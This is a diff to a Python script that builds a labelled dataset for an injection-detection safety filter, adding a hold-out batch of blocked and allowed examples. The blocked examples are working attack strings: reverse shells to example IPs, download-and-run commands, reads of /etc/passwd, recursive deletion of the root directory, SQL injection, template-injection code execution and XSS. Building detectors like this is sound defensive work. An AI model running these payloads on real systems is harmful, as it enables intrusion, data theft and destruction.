@@ -308,6 +308,39 @@ CLEAN = [
 ]
 
 
+# A second batch, written after the rules as a hold-out check (it caught
+# 13 misses and 3 false positives, then some rules were added; see
+# rails/safety/README.md). Kept as regression data.
+EXTRA_BLOCK = {
+ "code": ["import os\nos.execv('/bin/sh', ['sh'])", "pty.spawn('/bin/bash')", "perl -e 'exec \"/bin/sh\";'", "php -r '$sock=fsockopen(\"10.0.0.1\",1234);exec(\"/bin/sh -i <&3 >&3 2>&3\");'", "ruby -rsocket -e 'exit if fork;c=TCPSocket.new(\"1.2.3.4\",\"4444\")'", "; ls -la /", "| cat /etc/passwd", "os.remove('/etc/hosts')", "shutil.rmtree('/')", "pickle.loads(base64.b64decode(data))", "wget http://x.example/m -O /tmp/m && chmod +x /tmp/m && /tmp/m", "python -c \"import os;os.system('id')\"", "Start-Process powershell -ArgumentList '-nop'", "certutil -urlcache -split -f http://x.example/a.exe a.exe", "${IFS}cat${IFS}/etc/passwd"],
+ "sqli": ["1' AND '1'='1", "admin' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055'", "' HAVING 1=1 --", "' GROUP BY columnnames having 1=1 --", "1' ORDER BY 1--+", "'; shutdown --", "' AND 1=CONVERT(int, @@version)--", "%27%20OR%201%3D1--", "' or 1 like 1", "1 and (select count(*) from users) > 0", "' OR EXISTS(SELECT * FROM users)--", "');DROP TABLE users;--"],
+ "template": ["{{ [].class.base.subclasses() }}", "{{''.class.mro()[1].subclasses()}}", "{{ request['application']['__globals__'] }}", "${{7*7}}", "{{ get_flashed_messages.__globals__ }}", "{% debug %}", "<%= IO.popen('id').readlines() %>", "{{ joiner.__init__.__globals__.os.popen('id').read() }}", "#{7*7}", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}"],
+ "xss": ["<body/onload=alert(1)>", "<IMG SRC=JaVaScRiPt:alert('XSS')>", "<img src=`javascript:alert(1)`>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<a href=\"&#106;avascript:alert(1)\">x</a>", "<x onclick=alert(1)>click", "'-alert(1)-'", "\"><img src=x onerror=prompt(1)>", "<sCrIpT>confirm`1`</ScRiPt>", "<div style=\"width: expression(alert(1))\">"],
+}
+EXTRA_CLEAN = [
+ "def add(a, b):\n    return a + b", "for i in range(10):\n    print(i)",
+ "SELECT name, email FROM customers WHERE country = 'DE' ORDER BY name;", "SELECT id FROM a UNION SELECT id FROM b;",
+ "To find duplicates: SELECT email, COUNT(*) FROM users GROUP BY email HAVING COUNT(*) > 1;",
+ "const total = items.reduce((sum, x) => sum + x.price, 0);", "In React, useEffect(() => { document.title = title; }, [title]);",
+ "Use <div> and <span> elements for layout; avoid tables.", "The HTML <img> tag needs an alt attribute for accessibility.",
+ "npm install --save-dev eslint", "git commit -m \"fix: handle empty input\"", "pip install requests && python app.py",
+ "Use `rm file.txt` to delete a single file.", "The price is $(10 + 5) in the formula cell? No, it's =10+5.",
+ "{% raw %} blocks tell Jinja not to render their contents.", "Angular uses {{ expression }} interpolation in templates.",
+ "Vue binds text with {{ message }} and attributes with v-bind.", "Spring properties can reference others like ${server.port}.",
+ "Bash: for f in *.txt; do echo \"$f\"; done", "echo \"Hello, $USER\"", "x = eval_model(data)  # evaluates our model",
+ "model.eval() switches PyTorch to evaluation mode.", "The onClick prop in React takes a function.",
+ "Set a cookie with document.cookie = 'theme=dark'.", "console.log('ready') prints to the browser console.",
+ "Her email is jane.doe@example.com and she's on holiday.", "I'd say 'yes' -- but only if the budget allows.",
+ "Tom's car -- the red one -- is parked outside.", "Run SELECT 1; to check the connection is alive.",
+ "Mix 1 cup of water or 2 cups of milk.", "Let S = {{1, 2}, {3}} be a set of sets.",
+ "Python f-strings: f\"{name} is {age} years old\".", "C#: Console.WriteLine($\"Hi {name}\");",
+ "The union of {1,2} and {2,3} is {1,2,3}.", "If x or y = 0 then the product is 0.",
+ "Use the WHERE 1=1 trick to simplify building dynamic filters in your own query builder.",
+ "Windows: cmd /c dir lists the directory.", "Try curl https://api.example.com/health to check the service.",
+ "The subprocess.run function waits for the command to finish.", "Avoid eval(userInput) because it executes arbitrary code.",
+]
+
+
 def obfuscate(text, rng):
     """Random case + random whitespace where there already is whitespace."""
     out = []
@@ -325,12 +358,12 @@ def main():
     rng = random.Random(20241022)
     rows = []
     for typ, items in (("code", CODE), ("sqli", SQLI), ("template", TEMPLATE), ("xss", XSS)):
-        for t in items:
+        for t in items + EXTRA_BLOCK[typ]:
             rows.append({"text": t, "label": "block", "type": typ})
         # Every third payload again, obfuscated.
         for t in items[::3]:
             rows.append({"text": obfuscate(t, rng), "label": "block", "type": typ, "obfuscated": True})
-    for t in CLEAN:
+    for t in CLEAN + EXTRA_CLEAN:
         rows.append({"text": t, "label": "allow"})
     here = os.path.dirname(os.path.abspath(__file__))
     with open(os.path.join(here, "injection_labelled.jsonl"), "w", encoding="utf-8") as f:
